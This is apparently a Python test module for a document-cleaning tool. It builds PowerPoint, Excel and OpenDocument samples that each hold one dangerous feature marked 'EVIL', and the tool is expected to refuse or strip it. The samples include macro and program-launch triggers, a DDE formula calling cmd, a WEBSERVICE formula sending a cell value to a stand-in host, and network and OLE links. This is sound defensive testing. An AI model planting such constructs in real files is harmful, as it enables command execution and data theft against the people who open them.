"""Documents of PowerPoint, Excel and OpenDocument that do what no reader asked for.

Each holds « EVIL » where its harm is: the file is refused, or comes out without.
"""

from tests.documents import ODF_KIND, A, P, manifest, ods, odt, pptx, xlsx
from tests.exchange.cleaning.hostile_word import FAR, MICROSOFT
from tests.files import archive_bytes


def odf_link(element: str) -> bytes:
    return odt(f"<text:p><draw:frame>{element}</draw:frame></text:p>")


HOSTILE = {
    # PowerPoint
    "click that starts a program": (
        "pptx",
        pptx(
            '<p:sp><a:hlinkClick r:id="e" action="ppaction://program?EVIL"/></p:sp>',
            links=[("e", "hyperlink", "!file:///EVIL.exe")],
        ),
    ),
    "click that runs a macro": (
        "pptx",
        pptx('<p:sp><a:hlinkMouseOver r:id="" action="ppaction://macro?name=EVIL"/></p:sp>'),
    ),
    "film of elsewhere": ("pptx", pptx(links=[("e", "video", FAR)])),
    "sound": ("pptx", pptx(parts={"ppt/media/x.wav": "EVIL"}, links=[("e", "audio", "../media/x.wav")])),
    "object of another program": (
        "pptx",
        pptx(
            f'<p:graphicFrame xmlns:p="{P}"><a:graphic xmlns:a="{A}"><p:oleObj progId="Package" r:id="e"/></a:graphic></p:graphicFrame>',
            {"ppt/o.bin": "EVIL"},
            [("e", "oleObject", "../o.bin")],
        ),
    ),
    # Excel
    "values of another file": (
        "xlsx",
        xlsx(
            book='<externalReferences><externalReference r:id="e"/></externalReferences>',
            parts={"xl/externalLinks/e.xml": "<EVIL/>"},
            book_links=[("e", "externalLink", "externalLinks/e.xml")],
        ),
    ),
    "dde in a formula": ("xlsx", xlsx("<c r=\"B1\"><f>cmd|'/c EVIL'!A0</f><v>1</v></c>")),
    "link of the network in a formula": (
        "xlsx",
        xlsx('<c r="B1"><f>HYPERLINK("\\\\\\\\EVIL\\\\x","y")</f><v>1</v></c>'),
    ),
    "values of another file, hidden": (
        "xlsx",
        xlsx(
            book='<x:a xmlns:x="u"><externalReferences><externalReference r:id="EVIL"/></externalReferences></x:a>'
        ),
    ),
    "object in a sheet": (
        "xlsx",
        xlsx(
            after='<oleObjects><oleObject progId="Package" r:id="e"/></oleObjects>',
            parts={"xl/embeddings/o.bin": "EVIL"},
            links=[("e", "oleObject", "../embeddings/o.bin")],
        ),
    ),
    "question to the web": ("xlsx", xlsx('<c r="B1"><f>WEBSERVICE("http://EVIL/"&amp;A1)</f><v>1</v></c>')),
    "macro sheet": (
        "xlsx",
        xlsx(parts={"xl/m.xml": "<EVIL/>"}, book_links=[("e", f"{MICROSOFT}/xlMacrosheet", "m.xml")]),
    ),
    "data of elsewhere": (
        "xlsx",
        xlsx(parts={"xl/connections.xml": "<EVIL/>"}, book_links=[("e", "connections", "connections.xml")]),
    ),
    "dde in a rule": (
        "xlsx",
        xlsx(
            after='<conditionalFormatting><cfRule><formula>DDE("EVIL";"x")</formula></cfRule></conditionalFormatting>'
        ),
    ),
    "workbook with macros": (
        "xlsx",
        xlsx(types={"xl/workbook.xml": "application/vnd.ms-excel.sheet.macroEnabled.main+xml"}),
    ),
    # OpenDocument
    "library of macros": ("odt", odt(parts={"Basic/Standard/Module1.xml": "EVIL"})),
    "macros in the text": (
        "odt",
        odt(
            before="<office:scripts><office:script><ooo:module>EVIL</ooo:module></office:script></office:scripts>"
        ),
    ),
    "event that starts something": (
        "odt",
        odt(
            '<text:p><text:a xlink:href="https://police.be"><office:event-listeners>'
            '<script:event-listener script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:EVIL"/>'
            "</office:event-listeners>x</text:a></text:p>"
        ),
    ),
    "macro at a click": ("odt", odt('<text:p><text:a xlink:href="macro:///EVIL">x</text:a></text:p>')),
    "picture from the web": ("odt", odf_link('<draw:image xlink:href="https://EVIL.example/x.png"/>')),
    "picture of the network": ("odt", odf_link('<draw:image xlink:href="//EVIL/x.png"/>')),
    "picture of the disk": ("odt", odf_link('<draw:image xlink:href="../../EVIL.png"/>')),
    "object of elsewhere, open": ("odt", odf_link('<draw:object xlink:href="file:///EVIL.odt"/>')),
    "data in the text": (
        "odt",
        odf_link("<draw:image><office:binary-data>TVpFVklM</office:binary-data></draw:image>"),
    ),
    "form that is sent": (
        "odt",
        odt(
            '<x:model xmlns:x="http://www.w3.org/2002/xforms"><x:submission action="https://EVIL"/></x:model>'
        ),
    ),
    "button of the network": (
        "odt",
        odt(
            '<f:button xmlns:f="urn:oasis:names:tc:opendocument:xmlns:form:1.0" f:image-data="//EVIL/x.png" xlink:href="//EVIL/x"/>'
        ),
    ),
    "binary object": ("odt", odf_link('<draw:object-ole xlink:href="./EVIL"/>')),
    "frame of elsewhere": ("odt", odf_link('<draw:floating-frame xlink:href="https://EVIL.example"/>')),
    "part of elsewhere": (
        "odt",
        odt(
            '<text:section><text:section-source xlink:href="https://EVIL.example/x.odt"/><text:p>x</text:p></text:section>'
        ),
    ),
    "dde in a text": (
        "odt",
        odt(
            '<text:dde-connection-decls><text:dde-connection-decl office:dde-application="EVIL"/></text:dde-connection-decls>'
        ),
    ),
    "dde in a cell": (
        "ods",
        ods('<table:table-cell table:formula="of:=DDE(&quot;EVIL&quot;;&quot;x&quot;)" office:value="1"/>'),
    ),
    "cell of another file": (
        "ods",
        ods('<table:table-cell table:formula="of:=\'file:///EVIL.ods\'#$F.A1" office:value="1"/>'),
    ),
    "sheet of another file": (
        "ods",
        ods(
            '<table:table-cell/></table:table-row></table:table><table:table><table:table-source xlink:href="//EVIL/x.ods"/><table:table-row>'
        ),
    ),
    "locked": (
        "odt",
        odt(
            parts={
                "META-INF/manifest.xml": manifest({"content.xml": "text/xml"}, "<m:encryption-data/>"),
                "EVIL": "",
            }
        ),
    ),
    "another kind inside": (
        "odt",
        archive_bytes({"mimetype": f"{ODF_KIND}text-template", "content.xml": "<EVIL/>"}),
    ),
}
